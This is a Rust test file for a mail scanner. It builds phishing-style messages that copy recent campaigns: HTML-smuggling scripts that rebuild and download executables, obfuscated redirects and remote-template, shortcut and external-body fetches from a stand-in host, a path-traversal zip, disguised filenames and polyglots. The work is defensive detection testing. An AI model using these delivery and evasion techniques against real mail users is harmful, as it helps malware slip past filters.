//! Mail as attackers write it who know the RFCs, the habits of mail programs and the campaigns of the last years, and not our walk.

use super::carriers::{document, program, shortcut, zipped};
use super::expected::{Bad, End, bad};
use crate::mail::{attached, base64, eicar, gzipped, member, zip};
use weir_scan::test_files;

const ANY: &[End] = &[End::Forbidden, End::Infected, End::NotOpened];
const HEAD: &str = "From: Accounts <accounts@a.example>\r\nTo: bob@b.example\r\nSubject: Payment advice\r\nDate: Tue, 17 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n";

pub(crate) fn all() -> Vec<Bad> {
    [campaigns(), pages(), names(), charsets(), containers(), structures(), polyglots()].into_iter().flatten().collect()
}

fn lines(data: &[u8]) -> String {
    String::from_utf8(base64(data)).unwrap()
}

fn one(data: &[u8]) -> String {
    lines(data).split_whitespace().collect()
}

/// A message of these parts, each with its header.
fn mixed(parts: &[String]) -> Vec<u8> {
    let body: String = parts.iter().map(|part| format!("--=_x\r\n{part}\r\n")).collect();
    format!("{HEAD}Content-Type: multipart/mixed; boundary=\"=_x\"\r\n\r\n{body}--=_x--\r\n").into_bytes()
}

fn file(header: &str, data: &[u8]) -> String {
    format!("{header}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", lines(data))
}

fn page(name: &'static str, script: &str) -> Bad {
    let text = format!("<!DOCTYPE html>\n<html><head><title>Voicemail</title></head><body>{script}</body></html>");
    bad("strange page", name, attached("Voicemail_0417.html", text.as_bytes()), ANY, "")
}

/// What was seen in the wild.
fn campaigns() -> Vec<Bad> {
    let lnk = shortcut();
    let onenote = super::carriers::note(&lnk);
    let script = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n";
    let docm = document(&[
        ("word/document.xml", "<w:document/>"),
        (
            "word/_rels/settings.xml.rels",
            "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"\\\\203.0.113.9\\share\\t.dotm\" TargetMode=\"External\"/></Relationships>",
        ),
    ]);
    vec![
        bad(
            "campaign",
            "a shortcut in a disc in a zip",
            attached("Scan_0417.zip", &zipped("Scan.iso", &test_files::iso("Scan.lnk", &lnk))),
            ANY,
            "",
        ),
        bad(
            "campaign",
            "a disc image that is called a picture",
            attached("scan.jpg", &test_files::iso("Scan.js", script)),
            ANY,
            "",
        ),
        bad("campaign", "a note with a shortcut", attached("Invoice.one", &onenote), ANY, ""),
        bad("campaign", "a note that is called a PDF", attached("Invoice.pdf", &onenote), ANY, ""),
        bad(
            "campaign",
            "a script in two archives",
            attached("Docs.zip", &zipped("Docs.gz", &gzipped(&test_files::tar("Invoice.wsf", script)))),
            ANY,
            "",
        ),
        bad("campaign", "a template over SMB", attached("Offer.docx", &docm), ANY, ""),
        bad(
            "campaign",
            "a program beside a decoy",
            attached(
                "CV.zip",
                &zip(&[member("CV.pdf", b"%PDF-1.4\n%%EOF"), member("readme/CV_Anna.pdf.scr", &program())]),
            ),
            ANY,
            "",
        ),
        bad(
            "campaign",
            "a hidden library beside a program",
            attached("Tool.zip", &zip(&[member("WinWord.exe", &program()), member("wwlib.dll", &program())])),
            ANY,
            "",
        ),
        bad(
            "campaign",
            "an internet shortcut",
            attached("Statement.url", b"[InternetShortcut]\r\nURL=file://203.0.113.9/share/a.exe\r\n"),
            ANY,
            "",
        ),
        bad(
            "campaign",
            "a library file in a zip",
            attached("Docs.zip", &zipped("Docs.library-ms", b"<?xml version=\"1.0\"?><libraryDescription/>")),
            ANY,
            "",
        ),
        bad(
            "campaign",
            "a query for a stranger's folder",
            attached("Docs.zip", &zipped("Docs.search-ms", b"<?xml version=\"1.0\"?><persistedQuery/>")),
            ANY,
            "",
        ),
        bad(
            "campaign",
            "a calendar with a program",
            attached("invite.ics", &super::carriers::calendar("agenda.exe", &program())),
            ANY,
            "",
        ),
        bad(
            "campaign",
            "a forwarded message with a program",
            mixed(&[
                "Content-Type: text/plain\r\n\r\nFYI".into(),
                format!(
                    "Content-Type: message/rfc822; name=\"Re.eml\"\r\nContent-Disposition: attachment; filename=\"Re.eml\"\r\n\r\n{}",
                    String::from_utf8(attached("quote.exe", &program())).unwrap()
                ),
            ]),
            ANY,
            "quote.exe",
        ),
        bad(
            "campaign",
            "a mail that is a zipped mail with a program",
            attached("mail.zip", &zipped("Re.eml", &attached("quote.exe", &program()))),
            ANY,
            "quote.exe",
        ),
    ]
}

/// Pages that bring a file, or hide what they are.
fn pages() -> Vec<Bad> {
    let text = one(&zipped("Invoice.exe", &program()));
    let (half, rest) = text.split_at(text.len() / 2);
    let reversed: String = text.chars().rev().collect();
    let numbered: String = program().iter().map(|octet| format!("{},", octet.wrapping_add(3))).collect();
    vec![
        page("two halves in attributes", &format!("<div id=a data-x=\"{half}\"></div><div id=b data-x=\"{rest}\"></div><script>var s=a.dataset.x+b.dataset.x;var u=Uint8Array.from(atob(s),c=>c.charCodeAt(0));var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([u]));l.download='Invoice.zip';l.click()</script>")),
        page("an array that is shifted", &format!("<script>var d=[{numbered}0].map(function(x){{return x-3}});var b=new Blob([new Uint8Array(d)]);var a=document.createElement('a');a.href=window.URL.createObjectURL(b);a.download='x.exe';a.click();</script>")),
        page("backwards in a hidden field", &format!("<input type=hidden id=q value=\"{reversed}\"><script>var b=new Blob([Uint8Array.from(atob(q.value.split('').reverse().join('')),c=>c.charCodeAt(0))]);location.href=URL.createObjectURL(b)</script>")),
        page("a form that comes out of a text", "<script>document.write(unescape('%3Cform%20action%3D%22https%3A//203.0.113.9/%22%3E'))</script>"),
        page("code that comes out of a text", "<script>eval(atob('bG9jYXRpb249J2h0dHBzOi8vMjAzLjAuMTEzLjkvJw=='))</script>"),
        page("letters by number", "<script>eval(String.fromCharCode(108,111,99,97,116,105,111,110,61,39,104,116,116,112,39))</script>"),
        page("a tool's names", &format!("<script>{}</script>", (0..60).map(|n| format!("var _0x{:04x}=_0x4f1a(0x{n:x});", 0x1000 + n)).collect::<String>())),
        page("six signs", &format!("<script>{}</script>", "(![]+[])[+!+[]]+(!![]+[])[+[]]+".repeat(30))),
        page("an event", "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
        page("a page in a frame", "<script>document.body.innerHTML = decodeURIComponent('%3Ciframe%20src%3D%22https%3A%2F%2F203.0.113.9%22%3E')</script>"),
        bad("strange page", "a picture with a form", attached("voicemail.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><form xmlns=\"http://www.w3.org/1999/xhtml\" action=\"https://203.0.113.9/\"/></foreignObject></svg>"), ANY, ""),
        bad("strange page", "a picture that goes away", attached("voicemail.svg", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"application/ecmascript\"><![CDATA[window.location.href=atob('aHR0cA==')]]></script></svg>"), ANY, ""),
        bad("strange page", "an archive of a page", attached("voicemail.mht", format!("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n--m\r\nContent-Type: application/octet-stream; name=x.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n{}--m--\r\n", lines(&program())).as_bytes()), ANY, "x.exe"),
        bad("strange page", "a page behind a second extension", attached("Remittance.xlsx.html", b"<html><body>log in</body></html>"), ANY, ""),
        bad("strange page", "a page behind a second extension in a zip", attached("Remittance.zip", &zipped("Remittance.pdf.shtml", b"<html>log in</html>")), ANY, ""),
    ]
}

/// Names that are shown as something else.
fn names() -> Vec<Bad> {
    let named = |what: &str, header: &str| bad("strange name", what, mixed(&[file(header, &program())]), ANY, "");
    let harmless = |what: &str, header: &str| bad("strange name", what, mixed(&[file(header, b"x=1")]), ANY, "");
    vec![
        named("no name at all", "Content-Type: application/octet-stream"),
        named("a name in the description only", "Content-Type: image/png\r\nContent-Description: photo.png"),
        harmless(
            "the end turned round",
            "Content-Type: application/octet-stream; name=\"=?utf-8?Q?annexe=E2=80=AEcod.exe?=\"",
        ),
        harmless(
            "isolated and turned round",
            "Content-Type: application/octet-stream; name=\"=?utf-8?Q?a=E2=81=A7fdp.js?=\"",
        ),
        harmless("a full-width dot", "Content-Type: application/octet-stream; name*=utf-8''report.js%E2%80%8B"),
        harmless(
            "two names, the second in another field",
            "Content-Type: text/plain; name=report.txt\r\nContent-Disposition: attachment; filename=report.js",
        ),
        harmless(
            "a name in pieces out of order",
            "Content-Type: text/plain\r\nContent-Disposition: attachment; filename*2=s; filename*0=repo; filename*1=rt.j",
        ),
        harmless(
            "percent signs in a piece that is not extended",
            "Content-Disposition: attachment; filename*0*=utf-8''report%2Ej; filename*1=s\r\nContent-Type: text/plain",
        ),
        harmless(
            "an encoded word across two words",
            "Content-Type: text/plain; name=\"=?utf-8?B?cmVwb3J0Lg==?= =?utf-8?B?anM=?=\"",
        ),
        harmless("letters after the quote", "Content-Type: text/plain; name=\"report\".js"),
        harmless("a path with a drive", "Content-Type: text/plain; name=\"C:\\\\Users\\\\bob\\\\run.cmd\""),
        harmless("a trailing dot and blanks", "Content-Type: text/plain; name=\"run.cmd . . \""),
        harmless("a stream of NTFS", "Content-Type: text/plain; name=\"report.vbs::$DATA\""),
        harmless("capitals", "Content-Type: text/plain; name=\"RUN.BAT\""),
    ]
}

/// Names whose extension is not written in ASCII.
fn charsets() -> Vec<Bad> {
    let named = |charset: &str, header: String, says: &'static str| {
        bad("charset", charset, mixed(&[file(&header, b"WScript.Echo(1)")]), &[End::Forbidden], says)
    };
    let words: [(&str, &[u8]); 22] = [
        ("iso-2022-jp", b"report.\x1b(Jj\x1b(Bs"),
        ("ISO-2022-JP", b"\x1b(Jreport.js\x1b(B"),
        ("ISO-2022-JP-2", b"report.j\x1b(J\x1b(Bs"),
        ("ISO-2022-JP-3", b"report\x1b(J.\x1b(Bjs"),
        ("csISO2022JP", b"\x1b$B@A5a=q\x1b(J.js\x1b(B"),
        ("cp50220", b"report.\x1b(Jj\x1b(Bs"),
        ("JIS", b"report.\x1b(Hj\x1b(Bs"),
        ("ISO-2022-KR", b"\x1b$)Creport.j\x0e\x0fs"),
        ("ISO-2022-CN", b"report.j\x1b$)A\x0e\x0fs"),
        ("ISO-2022-CN-EXT", b"report.j\x1b$)E\x0e\x0fs"),
        ("HZ-GB-2312", b"report.j~{~}s"),
        ("HZ", b"report.j~\ns"),
        ("UTF-7", b"report.+AGo-s"),
        ("csUnicode11UTF7", b"report.+AGo-s"),
        ("cp65000", b"report.+AGo-s"),
        ("utf-16", b"r\0e\0p\0o\0r\0t\0.\0j\0s\0"),
        ("cp1200", b"r\0e\0p\0o\0r\0t\0.\0j\0s\0"),
        ("ibm037", b"\x99\x85\x97\x96\x99\xa3\x4b\x91\xa2"),
        ("x-no-such", b"report.j\x1b(J\x1b(Bs"),
        ("x-nor-this", b"report.+AGo-s"),
        ("utf-8", b"report.\x1b(Jj\x1b(Bs"),
        ("shift_jis", b"\x90\xbf\x8b\x81\x8f\x91.js"),
    ];
    let mut out = Vec::new();
    for (charset, octets) in words {
        let (word, escaped) = (one(octets), octets.iter().map(|octet| format!("%{octet:02X}")).collect::<String>());
        let kind = "Content-Type: application/octet-stream";
        let in_type = format!("{kind}; name=\"=?{charset}?B?{word}?=\"");
        let in_disposition = format!("{kind}\r\nContent-Disposition: attachment; filename*={charset}''{escaped}");
        out.push(named(charset, in_type.clone(), "extension .js: "));
        out.push(named(charset, in_disposition, "extension .js: "));
        let inner = String::from_utf8(mixed(&[file(&in_type, b"WScript.Echo(1)")])).unwrap();
        let message = mixed(&[format!("Content-Type: message/rfc822\r\n\r\n{inner}")]);
        out.push(bad("charset", charset, message, &[End::Forbidden], "extension .js: "));
    }
    let raw = "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"report.\x1b(Jj\x1b(Bs\"";
    out.push(named("octets without a charset", raw.into(), "extension .js: report.js"));
    let scsu = "Content-Type: text/plain; name=\"=?SCSU?Q?report=01.=01j=01s?=\"";
    out.push(named("a charset that hardly anybody reads", scsu.into(), "a charset that hardly any program reads"));
    let japanese =
        "Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b(Jbegin 644 run.js\x1b(B\r\n#0V%T\r\n`\r\nend\r\n";
    out.push(bad(
        "charset",
        "a file in Japanese text",
        mixed(&[japanese.into()]),
        &[End::Forbidden],
        "extension .js: run.js",
    ));
    out
}

/// Containers in containers, and lies about them.
fn containers() -> Vec<Bad> {
    let evil = zipped("run.exe", &program());
    let mut tail = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01".to_vec();
    tail.extend(&evil);
    let mut front = evil.clone();
    front.extend(b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
    let deep = (0..7).fold(evil.clone(), |inner, _| zipped("again.zip", &inner));
    let deeper = (0..12).fold(evil.clone(), |inner, _| zipped("again.zip", &inner));
    let absolute = zip(&[member("..\\..\\Startup\\run.bat", b"calc")]);
    vec![
        bad("strange container", "a picture with an archive behind it", attached("photo.jpg", &tail), ANY, ""),
        bad("strange container", "an archive with two ends", attached("a.zip", &front), ANY, ""),
        bad("strange container", "seven archives", attached("a.zip", &deep), ANY, ""),
        bad("strange container", "twelve archives", attached("a.zip", &deeper), ANY, ""),
        bad("strange container", "out of its folder", attached("a.zip", &absolute), ANY, ""),
        bad("strange container", "packed twice", attached("a.gz", &gzipped(&gzipped(&program()))), ANY, ""),
        bad(
            "strange container",
            "a tar without its name",
            attached("data.bin", &test_files::tar("run.ps1", b"iex")),
            ANY,
            "",
        ),
        bad(
            "strange container",
            "Outlook's own format with an archive",
            attached("winmail.dat", &test_files::tnef("a.lzh", &test_files::lha("run.exe", &program()))),
            ANY,
            "",
        ),
        bad(
            "strange container",
            "a program in a RAR",
            attached("a.rar", &test_files::rar("run.exe", &program())),
            ANY,
            "",
        ),
        bad(
            "strange container",
            "a RAR in a zip with the name of a picture",
            attached("a.zip", &zipped("photo.png", &test_files::rar("run.exe", &program()))),
            ANY,
            "",
        ),
        bad(
            "strange container",
            "the test file in everything",
            attached("a.zip", &zipped("b.tar", &test_files::tar("c.arj", &test_files::arj("d.txt", &eicar())))),
            ANY,
            "",
        ),
    ]
}

/// Structures that one program reads and another does not.
fn structures() -> Vec<Bad> {
    let evil = file("Content-Type: application/octet-stream; name=\"run.js\"", b"WScript.Echo(1)");
    let wrap = |header: &str, body: &str| format!("{HEAD}{header}\r\n\r\n{body}").into_bytes();
    let strange = |name: &str, message: Vec<u8>| bad("strange structure", name, message, ANY, "");
    let uu = "begin 644 run.exe\r\n#0V%T\r\n`\r\nend\r\n";
    vec![
        strange(
            "a piece of a message",
            wrap(
                "Content-Type: message/partial; id=\"x@a\"; number=1; total=2",
                "Content-Type: text/plain\r\n\r\nhalf",
            ),
        ),
        strange(
            "a body that lies elsewhere, with a name",
            wrap(
                "Content-Type: message/external-body; access-type=URL; URL=\"http://203.0.113.9/run.exe\"; name=\"run.exe\"",
                "Content-Type: application/octet-stream; name=run.exe\r\n\r\n",
            ),
        ),
        strange(
            "uuencode in the text of an HTML mail",
            mixed(&[
                format!("Content-Type: text/html\r\n\r\n<pre>\r\n{uu}</pre>"),
                "Content-Type: text/plain\r\n\r\nhi".into(),
            ]),
        ),
        strange(
            "a file in the epilogue",
            wrap(
                "Content-Type: multipart/mixed; boundary=e",
                &format!("--e\r\n\r\nhi\r\n--e--\r\n\r\n--e\r\n{evil}\r\n--e--\r\n"),
            ),
        ),
        strange(
            "an alternative that nobody shows",
            wrap(
                "Content-Type: multipart/alternative; boundary=a",
                &format!("--a\r\n{evil}\r\n--a\r\nContent-Type: text/plain\r\n\r\nhi\r\n--a--\r\n"),
            ),
        ),
        strange(
            "a boundary in a comment",
            wrap("Content-Type: multipart/mixed (boundary=no); boundary=y", &format!("--y\r\n{evil}\r\n--y--\r\n")),
        ),
        strange(
            "a type that ends with a semicolon and nothing",
            wrap("Content-Type: multipart/mixed; ; ;boundary=y;", &format!("--y\r\n{evil}\r\n--y--\r\n")),
        ),
        strange(
            "a field twice, in other letters",
            wrap(
                "content-type: multipart/mixed; boundary=y\r\nCONTENT-TYPE: text/plain",
                &format!("--y\r\n{evil}\r\n--y--\r\n"),
            ),
        ),
        strange(
            "folded in every word",
            wrap(
                "Content-Type:\r\n multipart/mixed\r\n ;\r\n boundary\r\n =\r\n y",
                &format!("--y\r\n{evil}\r\n--y--\r\n"),
            ),
        ),
        strange(
            "base64 in lines of one letter",
            mixed(&[format!(
                "Content-Type: image/png; name=a.png\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
                one(&program()).chars().map(|c| format!("{c}\r\n")).collect::<String>()
            )]),
        ),
        strange(
            "a program in UTF-16 text",
            mixed(&[file("Content-Type: text/plain; charset=utf-16; name=a.txt", &program())]),
        ),
        strange(
            "a signed message whose content is a program",
            mixed(&[
                "Content-Type: multipart/signed; boundary=s; protocol=\"application/pgp-signature\"\r\n\r\n--s\r\n"
                    .to_owned()
                    + &evil
                    + "\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--s--",
            ]),
        ),
    ]
}

/// Files that are two things at once.
fn polyglots() -> Vec<Bad> {
    let evil = zipped("run.exe", &program());
    let both = |front: &[u8]| [front, &evil].concat();
    let strange = |name: &str, shown: &str, data: &[u8]| bad("polyglot", name, attached(shown, data), ANY, "");
    vec![
        strange("a PDF that is an archive", "a.pdf", &both(b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n")),
        strange("a GIF that is an archive", "a.gif", &both(b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;")),
        strange("a text that is an archive", "a.txt", &both(b"Dear Bob,\r\n")),
        strange("a page that is an archive", "a.html", &both(b"<html>hello</html>")),
        strange("a program that is called a font", "a.ttf", &program()),
        strange("a shortcut that is called a document", "a.docx", &shortcut()),
        strange("a page that is called a document", "Contract.pdf", b"<html><body>log in</body></html>"),
    ]
}
